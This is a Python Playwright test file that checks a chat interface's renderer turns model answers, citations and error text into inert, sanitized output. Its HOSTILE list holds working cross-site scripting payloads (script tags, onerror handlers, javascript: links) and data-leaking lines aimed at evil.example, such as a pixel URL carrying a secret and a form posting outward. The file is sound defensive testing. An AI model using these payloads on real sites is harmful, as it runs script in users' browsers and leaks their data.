"""Text of a model or a document never becomes markup, a script, a dangerous link or a request."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.chat_double import PASSAGE, Double, passage, problem, whole
from tests.browser.chat_page import ChatPage

pytestmark = pytest.mark.browser

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'>",
    "</div></article><h1>Groundwork</h1><form action=//evil.example><input name=key>",
    "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:https://a) [x](//evil.example) [x](\\\\evil)",
    "[x](https://docs.example@evil.example/) <javascript:alert(1)> <https://x.example onclick=1>",
    "![pixel](https://evil.example/p.png?q=secret) <img src=https://evil.example/p.png>",
    '[x](https://a.example/" onmouseover="alert(1)) https://a.example/"onclick=alert(1)',
    "`</code><script>alert(1)</script>` ``<b>`` &lt;script&gt;alert(1)&lt;/script&gt;",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '~~~~x"><script>alert(1)</script>\n```\nstill <b>code</b>\n~~~~',
    "```\nunclosed <script>alert(1)</script>",
    "[1](https://evil.example) [1](javascript:alert(1)) [1][x] [[1]](https://evil.example)",
    "| a | b |\n|---|---|\n| <b onclick=alert(1)>x</b> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>\n> <img src=x onerror=alert(1)>\n- <b>x</b>\n1. [x](javascript:1)",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><meta http-equiv=refresh>",
    "{{7*7}} ${alert(1)} <%= 1 %> <!-- --> <![CDATA[x]]> &#0; &#xD800; &#x110000; \x00\x1b[31m",
]

ALLOWED = {
    "P", "UL", "OL", "LI", "CODE", "PRE", "FIGURE", "FIGCAPTION", "SPAN", "STRONG", "EM", "DEL", "A", "BR", "HR",
    "H3", "H4", "H5", "H6", "BLOCKQUOTE", "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SUP", "BUTTON",
    "svg", "use",
}  # fmt: skip

SURVEY = """(nodes) => nodes.flatMap((root) => [...root.querySelectorAll('*')]).map((node) => ({
    tag: node.tagName,
    attributes: node.getAttributeNames(),
    href: node.getAttribute('href'),
    target: node.getAttribute('target'),
    rel: node.getAttribute('rel'),
}))"""

ATTRIBUTES = {
    "class", "dir", "tabindex", "role", "aria-label", "scope", "start", "href", "target", "rel", "title", "type",
    "aria-hidden", "focusable", "data-code", "data-source", "aria-expanded", "aria-describedby",
}  # fmt: skip


def assert_harmless(nodes: list[dict[str, Any]], links: tuple[str, ...] = ()) -> None:
    """Only elements and attributes of the subset; links only to http(s), each without a way back."""
    for node in nodes:
        assert node["tag"] in ALLOWED, node
        assert set(node["attributes"]) <= ATTRIBUTES, node
        if node["tag"] == "A":
            assert node["href"].startswith(("https://", "http://")), node
            assert node["rel"] == "noopener noreferrer", node
            assert node["target"] == "_blank", node
            assert not any(host in node["href"].split("?")[0] for host in links), node


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_an_answer_never_becomes_markup(chat: ChatPage, double: Double, text: str) -> None:
    double.reply(*whole(text, citations=[PASSAGE]))
    chat.ask()
    nodes = chat.text.evaluate_all(SURVEY)
    assert_harmless(nodes)
    assert not any(node["tag"] == "A" and "docs.example@" in node["href"] for node in nodes)
    chat.assert_quiet()


@pytest.mark.parametrize("text", HOSTILE[:5], ids=range(5))
def test_nor_does_any_other_field(chat: ChatPage, double: Double, text: str) -> None:
    cited = passage(1, title=text, url=text, anchor=text, heading_path=[text, text], quote=text)
    linked = passage(2, title=text, anchor=text, heading_path=[text], quote=text)
    double.indexes = [text, "docs"]
    double.reply(
        *whole(
            "A [1] b [2].", citations=[cited, linked], id=text, release=text, index_version=text, trace_id=text,
            model=text, created_at=text, reason=text, rails=[{"rail": text, "on": text, "verdict": text}],
            cost={"currency": text, "amount": text, "charges": [
                {"stage": text, "meter": text, "quantity": text, "amount": text}]},
        )
    )  # fmt: skip
    chat.open()
    before = chat.page.locator("script, img, iframe, form, style, link, input, h1").count()
    turn = chat.ask(text)
    chat.mark(1).click()
    expect(chat.card.locator("blockquote")).to_have_text(text)
    chat.mark(2).hover()
    expect(chat.card.get_by_role("link")).to_have_attribute(
        "href", re.compile(r"^https://docs\.example/guides/indexes#")
    )
    turn.get_by_text("Details", exact=True).click()
    # The one form is the comment's.
    counted = chat.page.locator("script, img, iframe, form, style, link, input, h1").count()
    assert counted == before + 1


@pytest.mark.parametrize("text", HOSTILE[:3], ids=range(3))
def test_nor_does_an_error(chat: ChatPage, double: Double, text: str) -> None:
    double.replies.append(problem(422, text))
    turn = chat.ask(text, state="failed")
    expect(turn.locator(".end-text")).to_contain_text(text)
    expect(turn.locator("img, script, svg, iframe")).to_have_count(0)


def test_a_mark_never_links_to_where_the_answer_says(chat: ChatPage, double: Double) -> None:
    double.reply(*whole(HOSTILE[14] + " [**1**](https://evil.example)"))
    chat.ask()
    targets = chat.text.locator(".cite").evaluate_all("(nodes) => nodes.map((node) => node.href)")
    assert set(targets) == {"https://docs.example/guides/indexes#roll-back"}
    others = chat.text.locator("a:not(.cite)")
    # What else links there shows its address, and never a number.
    assert all(text.startswith("https://evil.example") for text in others.all_inner_texts())
    assert chat.text.locator("a a").count() == 0


def test_text_stays_readable(chat: ChatPage, double: Double) -> None:
    double.reply(*whole(HOSTILE[0] + " and " + HOSTILE[1], citations=[]))
    chat.ask()
    expect(chat.text).to_have_text(HOSTILE[0] + " and " + HOSTILE[1])


def test_very_long_tokens_do_not_widen_the_page(chat: ChatPage, double: Double) -> None:
    long = "x" * 5000
    text = f"{long}\n\n`{long}`\n\n# {long}\n\n```\n{long}\n```\n\n| {long} | b |\n|--|--|\n\nhttps://a.example/{long} [1]"
    cited = passage(1, title=long, quote=long, heading_path=[long])
    double.reply(*whole(text, citations=[cited], release=long, index_version=long))
    chat.page.set_viewport_size({"width": 320, "height": 640})
    chat.ask(long)
    chat.turn.get_by_text("Details", exact=True).click()
    chat.turn.get_by_text("Quoted passage").click()
    widths = chat.page.evaluate(
        "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert widths == [320, 320]


def test_characters_that_hide_or_reorder_are_shown(chat: ChatPage, double: Double) -> None:
    text = "pay \u202eevil\u202c now `a\u200bb` \u05e9\u05dc\u05d5\u05dd \U0001f468\u200d\U0001f469"
    double.reply(*whole(text, citations=[passage(1, quote="q\u2066uote")]))
    chat.ask()
    controls = chat.turn.locator(".prose .control")
    codes = controls.evaluate_all("(nodes) => nodes.map((node) => node.dataset.code)")
    assert codes == ["U+202E", "U+202C", "U+200B"]
    assert chat.text.evaluate("(node) => node.textContent") == text.replace("`", "")
    isolated = controls.first.evaluate("(node) => getComputedStyle(node).unicodeBidi")
    assert isolated == "isolate"


def test_right_to_left_text_gets_its_direction(chat: ChatPage, double: Double) -> None:
    double.reply(*whole("\u05e9\u05dc\u05d5\u05dd [1].\n\nHello.", citations=[PASSAGE]))
    chat.ask("\u05de\u05d4?")
    paragraphs = chat.text.locator("p")
    direction = "(node) => getComputedStyle(node).direction"
    assert paragraphs.nth(0).evaluate(direction) == "rtl"
    assert paragraphs.nth(1).evaluate(direction) == "ltr"


def test_the_browser_itself_refuses_markup(lab: ChatPage) -> None:
    script = """() => {
        try { document.createElement('p').innerHTML = '<b>x</b>'; return 'accepted'; }
        catch (error) { return error.name; }
    }"""
    assert lab.page.evaluate(script) == "TypeError"
